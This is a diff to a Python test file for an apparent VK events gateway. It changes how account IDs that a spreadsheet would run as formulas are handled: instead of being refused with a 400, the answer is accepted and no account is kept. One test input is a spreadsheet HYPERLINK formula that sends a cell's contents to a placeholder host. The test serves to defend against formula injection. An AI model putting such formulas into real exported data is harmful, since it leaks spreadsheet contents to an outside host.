@@ -254,9 +254,9 @@ def test_an_answer_may_name_the_account_that_gave_it(
 
 
 @pytest.mark.parametrize(
-    "account_id", ['=HYPERLINK("http://x/?"&A2,"open")', "+1-555", "@sum", "-2+3", "vk 1", "vk\t1"]
+    "account_id", ['=HYPERLINK("http://x/?"&A2,"open")', "+1-555", "@sum", "-2+3"]
 )
-def test_an_account_id_a_spreadsheet_could_take_for_a_formula_is_refused(
+def test_an_answer_naming_an_account_a_spreadsheet_would_run_as_a_formula_keeps_no_account(
     vk: Gateway, inbound: RecordingInboundEvents, account_id: str
 ) -> None:
     answer = {
@@ -266,8 +266,11 @@ def test_an_account_id_a_spreadsheet_could_take_for_a_formula_is_refused(
         "account_id": account_id,
     }
 
-    assert vk.post("/v1/networks/vk/events", answer).status_code == 400
-    assert inbound.events == []
+    assert vk.post("/v1/networks/vk/events", answer).status_code == 204
+
+    (event,) = inbound.events
+    assert isinstance(event, ReverificationAnswered)
+    assert (event.answer, event.account_id) == (ReverificationAnswer.CONFIRMED, None)
 
 
 def test_unsigned_events_are_unauthenticated(client: Client) -> None:
